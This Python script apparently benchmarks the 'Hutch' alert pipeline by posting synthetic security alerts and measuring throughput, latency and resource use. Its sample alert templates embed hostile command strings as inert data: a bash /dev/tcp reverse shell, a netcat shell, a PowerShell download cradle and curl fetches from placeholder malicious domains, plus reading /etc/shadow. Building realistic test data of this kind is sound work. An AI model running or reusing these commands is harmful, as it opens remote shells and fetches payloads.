#!/usr/bin/python3
"""Pipeline benchmark driver (scripts/bench.sh runs it against a stack it started).

Posts N alerts to ingest (POST /hooks/alert/raw/{schema}) from C concurrent HTTP/1.1
keep-alive clients (threads, one http.client connection each), records per event id
the wall-clock time its 202 came back, then waits (bounded) until the policy service
decided every event (the shipped policies of policies/ ignore non-detections, e.g.
archived findings or Falco debug events: recorded as ignored) and every alert made has its notification
row, and reports:

  - alerts/s through all six services: notified alerts / (first 202 .. last
    notifications.created_at); also the ingest-only rate (first request .. last 202);
  - latency from the 202 to the notification row (notifications.created_at joined to
    alerts.event_id), p50/p90/p99/max. created_at is now() of notify's insert, i.e.
    the *start* of notify's transaction: the figure leaves out notify's own commit;
  - the same split per stage from the alerts row's timestamps (each the start time of
    the transaction of the service that wrote it): 202 -> alerts.created_at (ingest,
    Kafka, policy), -> enriched_at (enrich), -> clustered_at (cluster), -> triaged_at
    (agent), -> notification (notify);
  - each service's peak RSS (VmHWM of /proc/<pid>/status at the end, pids from the
    stack's pid files) and CPU seconds used during the run (utime + stime), plus the
    broker's and Postgres' CPU for comparison.

The alerts come in five realistic shapes (GuardDuty via EventBridge, Falco, Google
SCC, CrowdStrike, a generic webhook with a namespace) with a few titles each, so
cluster opens some tickets and binds most alerts to them (fingerprint = schema +
title; the generic ones by namespace). Everything is deterministic (--seed) and
built before the clock starts, so the client's JSON work is not measured.

Wall clocks of this process and Postgres are the same machine's clock (loopback
only). Exit status: 0, or 1 when not every alert got its notification in time (the
JSON is written anyway, with "complete": false).
"""
import argparse
import http.client
import json
import os
import random
import statistics
import sys
import threading
import time
import urllib.parse

import psycopg2

from procfs import children, proc_cpu, proc_status, read_pid  # bench/procfs.py

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "scripts"))
from services import service_names  # noqa: E402  (scripts/services.py: common/services.h)

SERVICES = service_names()

# ---- alert shapes ---------------------------------------------------------------

GD_TYPES = [
    ("Recon:EC2/PortProbeUnprotectedPort", "Unprotected port on EC2 instance {i} is being probed.", 2),
    ("UnauthorizedAccess:EC2/SSHBruteForce", "{ip} is performing SSH brute force attacks against {i}.", 5),
    ("Backdoor:EC2/C&CActivity.B!DNS", "EC2 instance {i} is querying a domain name associated with a known command and control server.", 8),
    ("CryptoCurrency:EC2/BitcoinTool.B!DNS", "EC2 instance {i} is querying a domain name that is associated with Bitcoin-related activity.", 8),
    ("UnauthorizedAccess:IAMUser/TorIPCaller", "API DescribeInstances was invoked from a Tor exit node IP address {ip}.", 5),
    ("Trojan:EC2/DNSDataExfiltration", "EC2 instance {i} is attempting to query domain names that resemble exfiltrated data.", 8),
]
FALCO_RULES = [
    ("Terminal shell in container", "Warning", "A shell was spawned in a container with an attached terminal (user=root container_id={c} image=docker.io/library/nginx shell=bash parent=runc cmdline=bash -il)"),
    ("Write below binary dir", "Error", "File below a known binary directory opened for writing (user=root command=cp /tmp/x /usr/bin/x file=/usr/bin/x container_id={c})"),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "Critical", "Redirect stdout/stdin to network connection (user=www-data process=bash command=bash -i >& /dev/tcp/{ip}/4444 0>&1 container_id={c})"),
    ("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program (user=root program=cat command=cat /etc/shadow file=/etc/shadow container_id={c})"),
    ("Outbound Connection to C2 Servers", "Critical", "Outbound connection to C2 server (command=curl https://{d}/stage2 connection={ip}:443 user=root container_id={c})"),
]
SCC_CATEGORIES = [
    ("OPEN_FIREWALL", "HIGH", "Firewall rule allows ingress from 0.0.0.0/0 on tcp:22."),
    ("PUBLIC_BUCKET_ACL", "HIGH", "Cloud Storage bucket is publicly accessible."),
    ("Malware: Bad IP", "CRITICAL", "Connection to a known malicious IP address {ip}."),
    ("SSH_BRUTE_FORCE", "MEDIUM", "Repeated failed SSH logins from {ip}."),
    ("AUDIT_LOGGING_DISABLED", "LOW", "Data access audit logging is disabled for the project."),
]
CS_DETECTIONS = [
    ("Credential Dumping via Mimikatz", "critical", "mimikatz.exe", "sekurlsa::logonpasswords"),
    ("Reverse Shell via Netcat", "high", "nc", "nc -e /bin/sh {ip} 4444"),
    ("DNS Request to Denylisted Domain", "medium", "chrome.exe", "nslookup {d}"),
    ("Suspicious PowerShell Download Cradle", "high", "powershell.exe", "powershell -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://{d}/a.ps1')"),
]
GENERIC_TITLES = [
    "Impossible travel for user", "MFA fatigue attempt", "Mass file download",
    "New admin role granted", "Login from unusual country",
]
EVIL_DOMAINS = ["download-update.online", "cdn.bad-site.net", "xr7v2k9q.com", "p3nh8xzv.net",
                "login-portal.zip", "c2.evil-c2.io", "pool.minexmr.com", "exfil.data-sync.org"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def ip(self):
        r = self.r
        return f"{r.choice([45, 91, 103, 185, 193, 198, 203])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def private_ip(self):
        return f"10.{self.r.randrange(256)}.{self.r.randrange(256)}.{self.r.randrange(1, 255)}"

    def hexs(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def ts(self, i):
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(1735689600 + i * 7)) + "Z"

    def guardduty(self, i):
        r = self.r
        typ, desc, sev = r.choice(GD_TYPES)
        inst, ip, dom = "i-" + self.hexs(17), self.ip(), r.choice(EVIL_DOMAINS)
        title = typ.split("/")[0] + ": " + typ.split("/")[1].split("!")[0]
        return "guardduty", {
            "version": "0", "id": f"{self.hexs(8)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(12)}",
            "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": "123456789012",
            "time": self.ts(i), "region": "ap-northeast-1",
            "resources": [],
            "detail": {
                "schemaVersion": "2.0", "accountId": "123456789012", "region": "ap-northeast-1",
                "id": self.hexs(32), "type": typ, "title": title,
                "description": desc.format(i=inst, ip=ip),
                "severity": sev,
                "resource": {"resourceType": "Instance", "instanceDetails": {
                    "instanceId": inst, "instanceType": r.choice(["m3.xlarge", "t3.micro", "c5.2xlarge"]),
                    "networkInterfaces": [{"privateIpAddress": self.private_ip(), "publicIp": self.ip(),
                                           "privateDnsName": "ip-10-0-0-1.ap-northeast-1.compute.internal"}]}},
                "service": {"serviceName": "guardduty", "detectorId": self.hexs(32),
                            "action": {"actionType": "DNS_REQUEST", "dnsRequestAction": {"domain": dom, "protocol": "UDP"}},
                            "remoteIpDetails": {"ipAddressV4": ip, "organization": {"asn": "16509", "isp": "Amazon.com"}},
                            "count": r.randrange(1, 50), "eventFirstSeen": self.ts(i), "eventLastSeen": self.ts(i + 1)},
            },
        }

    def falco(self, i):
        r = self.r
        rule, prio, out = r.choice(FALCO_RULES)
        c, ip, dom = self.hexs(12), self.ip(), r.choice(EVIL_DOMAINS)
        return "falco", {
            "uuid": f"{self.hexs(8)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(12)}",
            "output": self.ts(i) + ": " + prio + " " + out.format(c=c, ip=ip, d=dom),
            "priority": prio, "rule": rule, "time": self.ts(i), "source": "syscall", "hostname": f"node-{r.randrange(8)}",
            "tags": ["container", "mitre_execution"],
            "output_fields": {"container.id": c, "proc.cmdline": "bash -il", "user.name": "root",
                              "fd.sip": ip, "k8s.ns.name": r.choice(["default", "payments", "web"])},
        }

    def scc(self, i):
        r = self.r
        cat, sev, desc = r.choice(SCC_CATEGORIES)
        ip = self.ip()
        proj = r.choice(["prod-web", "prod-data", "staging"])
        return "gcp-scc", {
            "notificationConfigName": "organizations/123456789/notificationConfigs/hutch",
            "finding": {
                "name": f"organizations/123456789/sources/987/findings/{self.hexs(32)}",
                "parent": "organizations/123456789/sources/987",
                "resourceName": f"//compute.googleapis.com/projects/{proj}/global/firewalls/{r.randrange(10**12)}",
                "state": "ACTIVE", "category": cat, "severity": sev, "eventTime": self.ts(i),
                "sourceProperties": {"Explanation": desc.format(ip=ip), "ReactivationCount": 0,
                                     "Recommendation": "See https://cloud.google.com/security-command-center/docs"},
                "externalUri": f"https://console.cloud.google.com/net-security/firewall/{proj}",
            },
        }

    def crowdstrike(self, i):
        r = self.r
        name, sev, img, cmd = r.choice(CS_DETECTIONS)
        ip, dom = self.ip(), r.choice(EVIL_DOMAINS)
        return "crowdstrike", {
            "name": name, "severity": sev, "detection_id": f"ldt:{self.hexs(32)}:{r.randrange(10**9)}",
            "hostname": f"WS-{r.randrange(1000):04d}", "local_ip": self.private_ip(), "external_ip": self.ip(),
            "user_name": r.choice(["k.suzuki", "j.smith", "a.tanaka"]),
            "behaviors": [{"filename": img, "cmdline": cmd.format(ip=ip, d=dom),
                           "sha256": self.hexs(64), "md5": self.hexs(32), "tactic": "Credential Access",
                           "technique_id": "T1003.001", "timestamp": self.ts(i)}],
        }

    def generic(self, i):
        r = self.r
        ns = f"tenant-{r.randrange(20)}"
        return "generic", {
            "title": r.choice(GENERIC_TITLES), "namespace": ns, "severity": r.choice(["low", "medium", "high"]),
            "user": {"email": f"user{r.randrange(500)}@example-inc.com", "ip": self.ip()},
            "description": f"Seen from {self.ip()} via https://{r.choice(EVIL_DOMAINS)}/login",
            "observed_at": self.ts(i),
        }

    def alert(self, i):
        return self.r.choice([self.guardduty, self.guardduty, self.falco, self.scc, self.crowdstrike, self.generic])(i)


# ---- HTTP load ------------------------------------------------------------------

class Poster:
    def __init__(self, base, bodies, concurrency, token):
        u = urllib.parse.urlsplit(base)
        self.host, self.port = u.hostname, u.port or 80
        self.bodies = bodies
        self.next = 0
        self.lock = threading.Lock()
        self.results = [None] * len(bodies)  # (event_id, t_send, t_ack, status)
        self.errors = []
        self.retries = 0
        self.concurrency = concurrency
        self.headers = {"Content-Type": "application/json", "Connection": "keep-alive"}
        if token:
            self.headers["Authorization"] = "Bearer " + token

    def take(self):
        with self.lock:
            i = self.next
            self.next += 1
        return i if i < len(self.bodies) else None

    def worker(self):
        conn = http.client.HTTPConnection(self.host, self.port, timeout=30)
        while (i := self.take()) is not None:
            schema, body = self.bodies[i]
            for attempt in range(5):
                t_send = time.time()
                try:
                    conn.request("POST", f"/hooks/alert/raw/{schema}", body=body, headers=self.headers)
                    resp = conn.getresponse()
                    data = resp.read()
                    t_ack = time.time()
                except (OSError, http.client.HTTPException) as e:
                    conn.close()
                    conn = http.client.HTTPConnection(self.host, self.port, timeout=30)
                    err = f"{type(e).__name__}: {e}"
                    status = None
                else:
                    status = resp.status
                    if status == 202:
                        self.results[i] = (json.loads(data)["event_id"], t_send, t_ack, status)
                        break
                    err = f"HTTP {status}: {data[:200]!r}"
                    if resp.getheader("Connection", "").lower() == "close":
                        conn.close()
                if status not in (None, 503) or attempt == 4:
                    with self.lock:
                        self.errors.append(err)
                    break
                with self.lock:
                    self.retries += 1
                time.sleep(0.05 * (attempt + 1))
        conn.close()

    def run(self):
        threads = [threading.Thread(target=self.worker, daemon=True) for _ in range(self.concurrency)]
        t0 = time.time()
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        return t0, time.time()


# ---- process figures ------------------------------------------------------------

def stack_pids(state):
    pids = {s: read_pid(os.path.join(state, "pids", s + ".pid")) for s in SERVICES}
    pids["kafka"] = read_pid(os.path.join(state, "kafka", "kafka.pid")) or read_pid(os.path.join(state, "devbroker.pid"))
    pids["postgres"] = read_pid(os.path.join(state, "pg", "data", "postmaster.pid"))
    return pids


def cpu_snapshot(pids):
    snap = {}
    for name, pid in pids.items():
        if not pid:
            continue
        if name == "postgres":  # the postmaster and its backends / workers
            per = {p: proc_cpu(p) for p in [pid] + children(pid)}
            snap[name] = {p: c for p, c in per.items() if c is not None}
        else:
            c = proc_cpu(pid)
            if c is not None:
                snap[name] = {pid: c}
    return snap


def cpu_used(before, after):
    used = {}
    for name, procs in after.items():
        used[name] = round(sum(c - before.get(name, {}).get(p, 0.0) for p, c in procs.items()), 2)
    return used


# ---- stats ----------------------------------------------------------------------

def pct(sorted_vals, q):
    if not sorted_vals:
        return None
    k = min(len(sorted_vals) - 1, max(0, int(round(q / 100.0 * len(sorted_vals) + 0.5)) - 1))
    return sorted_vals[k]


def summary(vals_s):
    v = sorted(x * 1000.0 for x in vals_s)
    if not v:
        return {"n": 0}
    return {"n": len(v), "p50_ms": round(pct(v, 50), 1), "p90_ms": round(pct(v, 90), 1),
            "p99_ms": round(pct(v, 99), 1), "max_ms": round(v[-1], 1), "mean_ms": round(statistics.fmean(v), 1)}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", required=True, help="ingest base URL, e.g. http://127.0.0.1:8081")
    ap.add_argument("--db", required=True, help="HUTCH_DATABASE_URL")
    ap.add_argument("--state", required=True, help="the stack's state dir (pid files)")
    ap.add_argument("--alerts", type=int, default=10000)
    ap.add_argument("--concurrency", type=int, default=16)
    ap.add_argument("--timeout", type=float, default=300, help="seconds to wait for the last notification")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--token", default=os.environ.get("HUTCH_BENCH_TOKEN", ""))
    ap.add_argument("--out", default="bench/results/pipeline.json")
    ap.add_argument("--mode", default="release")
    a = ap.parse_args()

    gen = Gen(a.seed)
    bodies = []
    shapes = {}
    for i in range(a.alerts):
        schema, doc = gen.alert(i)
        shapes[schema] = shapes.get(schema, 0) + 1
        bodies.append((schema, json.dumps(doc).encode()))
    mean_body = sum(len(b) for _, b in bodies) / max(1, len(bodies))

    db = psycopg2.connect(a.db)
    db.autocommit = True
    cur = db.cursor()
    cur.execute("SELECT count(*) FROM alerts")
    preexisting = cur.fetchone()[0]

    pids = stack_pids(a.state)
    cpu0 = cpu_snapshot(pids)
    load0 = os.getloadavg()

    print(f"posting {a.alerts} alerts ({', '.join(f'{k} {v}' for k, v in sorted(shapes.items()))}; "
          f"mean body {mean_body:.0f} B) from {a.concurrency} keep-alive clients to {a.url}", flush=True)
    poster = Poster(a.url, bodies, a.concurrency, a.token)
    t_start, t_posted = poster.run()
    acked = {r[0]: r for r in poster.results if r}
    print(f"posted in {t_posted - t_start:.2f} s: {len(acked)} accepted (202), {len(poster.errors)} failed, "
          f"{poster.retries} retried", flush=True)
    for e in poster.errors[:5]:
        print("  error:", e, flush=True)

    # wait until every accepted event is decided by the policies (accepted, or
    # ignored: the shipped policies ignore non-detections with a reason) and
    # every alert they made has its notification row
    deadline = time.time() + a.timeout
    last_print = 0.0
    progress_sql = (
        "SELECT (SELECT count(*) FROM events WHERE event_id = ANY(%s::uuid[]) AND status <> 'received'),"
        " (SELECT count(*) FROM alerts WHERE event_id = ANY(%s::uuid[])),"
        " (SELECT count(DISTINCT n.alert_id) FROM notifications n JOIN alerts a ON a.alert_id = n.alert_id"
        "  WHERE a.event_id = ANY(%s::uuid[]))")
    ids = list(acked)
    decided = made = notified = 0
    while True:
        cur.execute(progress_sql, (ids, ids, ids))
        decided, made, notified = cur.fetchone()
        now = time.time()
        if decided >= len(ids) and notified >= made:
            break
        if now > deadline:
            break
        if now - last_print >= 5:
            print(f"  {decided}/{len(ids)} decided, {notified}/{made} alerts notified after {now - t_start:.0f} s",
                  flush=True)
            last_print = now
        time.sleep(0.25)
    complete = decided >= len(ids) and notified >= made
    if not complete:
        print(f"TIMEOUT: {decided} of {len(ids)} events decided, {notified} of {made} alerts notified within "
              f"{a.timeout:.0f} s of the last post", flush=True)
    cpu1 = cpu_snapshot(pids)

    cur.execute(
        "SELECT a.event_id::text, extract(epoch FROM a.created_at), extract(epoch FROM a.enriched_at),"
        " extract(epoch FROM a.clustered_at), extract(epoch FROM a.triaged_at), extract(epoch FROM min(n.created_at))"
        " FROM alerts a JOIN notifications n ON n.alert_id = a.alert_id WHERE a.event_id = ANY(%s::uuid[])"
        " GROUP BY a.alert_id", (ids,))
    rows = cur.fetchall()
    cur.execute("SELECT count(*), count(*) FILTER (WHERE status = 'open') FROM tickets")
    tickets, _open = cur.fetchone()
    cur.execute("SELECT kind, count(*) FROM notifications GROUP BY kind ORDER BY kind")
    kinds = dict(cur.fetchall())
    cur.execute("SELECT count(*) FROM indicators")
    indicators = cur.fetchone()[0]
    cur.execute("SELECT status, count(*) FROM events GROUP BY status")
    events = dict(cur.fetchall())
    db.close()

    lat, stages = [], {k: [] for k in ["ingest+policy", "enrich", "cluster", "agent", "notify"]}
    last_notif = 0.0
    for ev, created, enriched, clustered, triaged, notified in rows:
        t_ack = acked[ev][2]
        notified = float(notified)
        last_notif = max(last_notif, notified)
        lat.append(notified - t_ack)
        chain = [t_ack, created, enriched, clustered, triaged, notified]
        if all(x is not None for x in chain):
            chain = [float(x) for x in chain]
            for k, (x, y) in zip(stages, zip(chain, chain[1:])):
                stages[k].append(y - x)
    first_ack = min(r[2] for r in acked.values()) if acked else t_start
    last_ack = max(r[2] for r in acked.values()) if acked else t_posted
    span = last_notif - first_ack if rows else None

    mem = {}
    for s in SERVICES:
        pid = pids.get(s)
        mem[s] = {"pid": pid, "vm_hwm_kb": proc_status(pid, "VmHWM") if pid else None,
                  "vm_rss_kb": proc_status(pid, "VmRSS") if pid else None}
    cpu = cpu_used(cpu0, cpu1)

    result = {
        "benchmark": "pipeline", "mode": a.mode, "complete": complete,
        "started_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t_start)),
        "alerts": a.alerts, "concurrency": a.concurrency, "shapes": shapes, "mean_body_bytes": round(mean_body),
        "accepted": len(acked), "post_errors": len(poster.errors), "post_retries": poster.retries,
        "alerts_made": made, "notified": len(rows), "preexisting_alerts": preexisting,
        "post_seconds": round(t_posted - t_start, 3),
        "ingest_alerts_per_s": round(len(acked) / (last_ack - t_start), 1) if acked else None,
        "pipeline_seconds": round(span, 3) if span else None,
        "pipeline_alerts_per_s": round(len(rows) / span, 1) if span else None,
        "drain_seconds_after_last_202": round(last_notif - last_ack, 3) if rows else None,
        "latency_202_to_notification": summary(lat),
        "stage_latency": {k: summary(v) for k, v in stages.items()},
        "tickets": tickets, "notifications_by_kind": kinds, "indicators": indicators, "events_by_status": events,
        "memory": mem, "cpu_seconds": cpu,
        "loadavg_before": [round(x, 2) for x in load0], "loadavg_after": [round(x, 2) for x in os.getloadavg()],
        "cpus": os.cpu_count(),
        "notes": "notifications.created_at and the alerts timestamps are now() of each writer's transaction "
                 "(its start); latencies are wall clock from the 202 received by the client.",
    }
    os.makedirs(os.path.dirname(os.path.abspath(a.out)), exist_ok=True)
    with open(a.out, "w") as f:
        json.dump(result, f, indent=2)
        f.write("\n")

    # readable table
    L = result["latency_202_to_notification"]
    print()
    print(f"Hutch pipeline benchmark ({a.mode}, {os.cpu_count()} CPUs, load before {load0[0]:.2f})")
    print(f"  alerts posted / accepted (202)        {a.alerts} / {len(acked)}")
    print(f"  events by status (policies)           {events}")
    print(f"  alerts made / notified                {made} / {len(rows)}{'' if complete else '  (INCOMPLETE)'}")
    print(f"  ingest rate (202s)                    {result['ingest_alerts_per_s']} alerts/s "
          f"({result['post_seconds']} s, {a.concurrency} clients)")
    print(f"  through all six services              {result['pipeline_alerts_per_s']} alerts/s "
          f"(first 202 -> last notification row: {result['pipeline_seconds']} s)")
    if L.get("n"):
        print(f"  latency 202 -> notification row       p50 {L['p50_ms']} ms   p90 {L['p90_ms']} ms   "
              f"p99 {L['p99_ms']} ms   max {L['max_ms']} ms")
    print(f"  tickets {tickets}, notifications {kinds}, indicators {indicators}")
    print()
    print(f"  {'stage (writer)':<16} {'p50 ms':>9} {'p99 ms':>9} {'max ms':>9}")
    for k, v in result["stage_latency"].items():
        if v.get("n"):
            print(f"  {k:<16} {v['p50_ms']:>9} {v['p99_ms']:>9} {v['max_ms']:>9}")
    print()
    print(f"  {'service':<10} {'peak RSS (VmHWM)':>17} {'CPU s':>8}")
    for s in SERVICES:
        hwm = mem[s]["vm_hwm_kb"]
        print(f"  hutch-{s:<4} {(f'{hwm / 1024:.1f} MiB' if hwm else '-'):>17} {cpu.get(s, '-'):>8}")
    for s in ("kafka", "postgres"):
        if s in cpu:
            print(f"  {s:<10} {'':>17} {cpu[s]:>8}")
    print(f"\n  written to {a.out}")
    return 0 if complete and not poster.errors else 1


if __name__ == "__main__":
    sys.exit(main())
